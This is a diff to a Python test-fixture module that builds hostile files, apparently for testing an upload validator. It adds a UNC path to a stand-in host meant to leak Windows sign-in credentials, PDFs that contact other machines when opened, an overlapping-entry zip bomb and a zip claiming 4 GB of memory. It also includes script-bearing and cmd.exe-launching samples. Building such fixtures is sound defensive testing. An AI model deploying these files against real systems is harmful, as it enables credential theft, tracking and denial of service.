@@ -16,6 +16,7 @@ SCRIPT = f"<script>{MARKER}; document.title = 'harm'</script>"
 SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
 HTML = f"<!DOCTYPE html><title>Letter</title>{SCRIPT}".encode()
 GIF_JS = b"GIF89a/*" + bytes(20) + f"*/=1;{MARKER}//;".encode()
+ELSEWHERE = r"\\harm.example\share\a.pdf"  # Windows sends whoever is signed in there
 PROGRAM = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0"
 
 
@@ -35,6 +36,14 @@ def action(kind: str, **rest) -> pikepdf.Dictionary:
     return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **rest)
 
 
+def link() -> pikepdf.Dictionary:
+    return action("URI", URI="https://clinic.example/")
+
+
+def annotation(kind: str, **rest) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9], **rest)
+
+
 def pdf_with_script() -> bytes:
     return pdf(root={"/OpenAction": action("JavaScript", JS="app.alert('harm')")})
 
@@ -45,9 +54,21 @@ def pdf_with_a_script_under_escapes() -> bytes:
 
 
 def pdf_that_starts_a_program() -> bytes:
-    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
-    annotation.A = action("Launch", F="cmd.exe")
-    return pdf(page={"/Annots": pikepdf.Array([annotation])})
+    return pdf(page={"/Annots": pikepdf.Array([annotation("Link", A=action("Launch", F="cmd.exe"))])})
+
+
+def pdf_that_asks_elsewhere(kind: str, **rest) -> bytes:
+    """When it is opened, it asks another machine for something; so that machine knows who opens it, and when."""
+    return pdf(root={"/OpenAction": action(kind, **rest)})
+
+
+def pdf_with_its_content_elsewhere() -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    document.pages[0].obj.Contents = document.make_stream(b"", F=pikepdf.String(ELSEWHERE))
+    written = io.BytesIO()
+    document.save(written)
+    return written.getvalue()
 
 
 def pdf_with_a_file_inside() -> bytes:
@@ -143,4 +164,29 @@ def bomb_that_lies() -> bytes:
     whole = bytearray(bomb())
     at = whole.index(b"PK\x01\x02")
     whole[at + 24 : at + 28] = struct.pack("<I", 5000)
+    return bytes(whole)
+
+
+def zip_with_a_folder_that_is_a_file(content: bytes) -> bytes:
+    return packed({"a.dcm": dicom(), "a/": content})
+
+
+def bomb_of_one_file_many_times(times: int = 4000) -> bytes:
+    """A list of contents that has the same packed bytes again and again (Fifield, A better zip bomb, 2019)."""
+    content = dicom() + b"".join(random.Random(number).randbytes(20) * 60 for number in range(20))
+    whole = packed({"a.dcm": content})
+    start, end = whole.index(b"PK\x01\x02"), whole.index(b"PK\x05\x06")
+    entries = whole[start:end] * times
+    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, times, times, len(entries), start, 0)
+    return whole[:start] + entries + tail
+
+
+def zip_that_asks_for_much_memory() -> bytes:
+    """Packed by a method (LZMA) that says beforehand how much memory it wants: all of 4 GB."""
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w", zipfile.ZIP_LZMA) as archive:
+        archive.writestr("a.dcm", dicom())
+    whole = bytearray(written.getvalue())
+    at = whole.index(b"a.dcm") + len("a.dcm") + 5
+    whole[at : at + 4] = b"\xff" * 4
     return bytes(whole)
